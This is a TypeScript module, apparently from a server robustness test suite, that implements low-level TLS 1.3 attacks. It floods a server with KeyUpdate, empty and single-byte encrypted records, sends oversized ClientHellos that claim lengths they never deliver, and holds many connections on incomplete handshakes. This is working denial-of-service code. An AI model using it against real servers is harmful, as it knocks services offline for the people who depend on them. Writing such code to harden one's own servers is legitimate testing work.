import { createCipheriv, createHmac } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls, type TLSSocket } from 'node:tls';

/** Attacks below HTTP: TLS records that a well-behaved client never sends. */

const KEY_UPDATE = 24;
const [APPLICATION_DATA, HANDSHAKE] = [23, 22];

/** HKDF-Expand-Label of TLS 1.3 (RFC 8446, section 7.1), for SHA-256 and an empty context. */
function expandLabel(secret: Buffer, label: string, length: number): Buffer {
  const name = Buffer.from(`tls13 ${label}`);
  const info = Buffer.concat([Buffer.from([0, length, name.length]), name, Buffer.from([0])]);
  // One block of HMAC is enough for every length here.
  return hmac(secret, Buffer.concat([info, Buffer.from([1])])).subarray(0, length);
}

function hmac(key: Buffer, data: Buffer): Buffer {
  return createHmac('sha256', key).update(data).digest();
}

/** The client's side of TLS 1.3 with AES-128-GCM after a handshake, which seals whatever records it is asked to. */
class RecordWriter {
  #secret: Buffer;
  #key: Buffer;
  #iv: Buffer;
  #sequence = 0;

  constructor(secret: Buffer) {
    this.#secret = secret;
    this.#key = expandLabel(secret, 'key', 16);
    this.#iv = expandLabel(secret, 'iv', 12);
  }

  seal(type: number, content: Buffer): Buffer {
    const nonce = Buffer.from(this.#iv);
    nonce.writeUInt32BE((nonce.readUInt32BE(8) ^ this.#sequence++) >>> 0, 8);
    const length = content.length + 1 + 16;
    const head = Buffer.from([APPLICATION_DATA, 3, 3, length >> 8, length & 255]);
    const cipher = createCipheriv('aes-128-gcm', this.#key, nonce).setAAD(head);
    return Buffer.concat([
      head,
      cipher.update(content),
      cipher.update(Buffer.from([type])),
      cipher.final(),
      cipher.getAuthTag(),
    ]);
  }

  /** A KeyUpdate that asks for one in return, or not. Later records use the next key. */
  keyUpdate(isRequested: boolean): Buffer {
    const record = this.seal(HANDSHAKE, Buffer.from([KEY_UPDATE, 0, 0, 1, isRequested ? 1 : 0]));
    this.#secret = expandLabel(this.#secret, 'traffic upd', 32);
    this.#key = expandLabel(this.#secret, 'key', 16);
    this.#iv = expandLabel(this.#secret, 'iv', 12);
    this.#sequence = 0;
    return record;
  }
}

/** Finishes a handshake, and returns the TCP connection with a writer of further records. */
async function recordsOf(url: string): Promise<{ socket: Socket; records: RecordWriter }> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  const options = { rejectUnauthorized: false, minVersion: 'TLSv1.3', ciphers: 'TLS_AES_128_GCM_SHA256' } as const;
  const secured: TLSSocket = connectTls({ socket, ...options });
  secured.on('error', () => {});
  const secret = await new Promise<Buffer>((resolve, reject) => {
    let found: Buffer | undefined;
    secured.on('keylog', (line) => {
      const [label, , hex = ''] = line.toString().trim().split(' ');
      if (label === 'CLIENT_TRAFFIC_SECRET_0') found = Buffer.from(hex, 'hex');
    });
    // A session ticket shows that the server has the last message of the handshake, after which other records may follow.
    secured.once('session', () => (found ? resolve(found) : reject(new Error('There is no secret'))));
    socket.once('close', () => reject(new Error('The connection was closed')));
  });
  return { socket, records: new RecordWriter(secret) };
}

/** What to send: each without any content for HTTP. */
export type Records = 'key updates' | 'answered key updates' | 'empty records' | 'single bytes';

/** Some 64 KB of such records, again and again as fast as the server takes them, until it closes. Resolves to the bytes. */
export async function pourRecords(url: string, what: Records, forMs: number): Promise<number> {
  const { socket, records } = await recordsOf(url).catch(() => ({ socket: undefined, records: undefined }));
  if (!socket || !records) return 0;
  const record = () => {
    if (what === 'empty records') return records.seal(APPLICATION_DATA, Buffer.alloc(0));
    // The beginning of a head that never ends.
    if (what === 'single bytes') return records.seal(APPLICATION_DATA, Buffer.from('G'));
    return records.keyUpdate(what === 'answered key updates');
  };
  const untilMs = performance.now() + forMs;
  while (performance.now() < untilMs && !socket.destroyed) {
    const piece = Buffer.concat(Array.from({ length: 2400 }, record));
    if (!socket.write(piece)) await drained(socket);
    else await new Promise((resolve) => setImmediate(resolve));
  }
  socket.destroy();
  return socket.bytesWritten;
}

/** In which a server that is not held has read what was sent. */
const TAKEN_MS = 3000;

/** Connections with so many KeyUpdates ready each, as far as the server keeps them; `send` sends all at once. */
export async function prepareKeyUpdates(
  url: string,
  connections: number,
  updates: number,
): Promise<{ count: number; send: () => Promise<void> }> {
  const opened = await Promise.all(Array.from({ length: connections }, () => recordsOf(url).catch(() => undefined)));
  const ready = opened.flatMap((each) => {
    if (!each || each.socket.destroyed) return [];
    return {
      socket: each.socket,
      bytes: Buffer.concat(Array.from({ length: updates }, () => each.records.keyUpdate(false))),
    };
  });
  const open = ready.filter(({ socket }) => !socket.destroyed);
  return {
    count: open.length,
    async send() {
      for (const { socket, bytes } of open) socket.write(bytes);
      await sleep(TAKEN_MS);
      for (const { socket } of open) socket.destroy();
    },
  };
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      socket.off('drain', done).off('close', done);
      resolve();
    };
    socket.once('drain', done).once('close', done);
    if (socket.destroyed) done();
  });
}

/** A ClientHello of so many bytes with its padding, which Node.js or Go would send with some 300. */
export function clientHello(bytes = 517): Buffer {
  const fixed = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0, 0, 2, 0x13, 0x01, 1, 0])]);
  const extensions = Buffer.concat([
    extension(43, Buffer.from([2, 3, 4])),
    extension(10, Buffer.from([0, 2, 0, 29])),
    extension(13, Buffer.from([0, 4, 4, 3, 8, 4])),
    extension(51, Buffer.concat([Buffer.from([0, 36, 0, 29, 0, 32]), Buffer.alloc(32, 9)])),
  ]);
  const room = Math.max(0, bytes - fixed.length - extensions.length - 15);
  const paddings: Buffer[] = [];
  // The list of extensions has at most 65,535 bytes: what is more is claimed, and never sent.
  for (let left = Math.min(room, 65_000 - extensions.length); left > 0; left -= 16_000) {
    paddings.push(extension(65_000 + paddings.length, Buffer.alloc(Math.min(left, 16_000))));
  }
  const list = Buffer.concat([extensions, ...paddings]);
  const body = Buffer.concat([fixed, Buffer.from([list.length >> 8, list.length & 255]), list]);
  const claimed = bytes > 65_000 ? bytes : body.length;
  const message = Buffer.concat([
    Buffer.from([1, claimed >> 16, (claimed >> 8) & 255, claimed & 255]),
    body,
    Buffer.alloc(claimed - body.length),
  ]);
  const records: Buffer[] = [];
  for (let at = 0; at < message.length; at += 16_384) {
    const piece = message.subarray(at, at + 16_384);
    records.push(Buffer.from([HANDSHAKE, 3, 1, piece.length >> 8, piece.length & 255]), piece);
  }
  return Buffer.concat(records);
}

function extension(type: number, content: Buffer): Buffer {
  return Buffer.concat([Buffer.from([type >> 8, type & 255, content.length >> 8, content.length & 255]), content]);
}

/** Opens a connection with these bytes; resolves when the server answers or closes. */
export function hello(url: string, bytes: Buffer): Promise<Socket> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname, () => socket.write(bytes));
  return new Promise((resolve) => {
    socket.on('error', () => {});
    socket.once('data', () => resolve(socket));
    socket.once('close', () => resolve(socket));
  });
}

/** Holds so many connections whose ClientHello lacks its last byte for a second, or until the server closes them. */
export async function holdHellos(url: string, count: number, bytes: number): Promise<void> {
  const { hostname, port } = new URL(url);
  const begun = clientHello(bytes).subarray(0, -1);
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(Number(port), hostname, () => socket.write(begun));
    return socket.on('error', () => {});
  });
  await sleep(1000);
  for (const socket of sockets) socket.destroy();
}
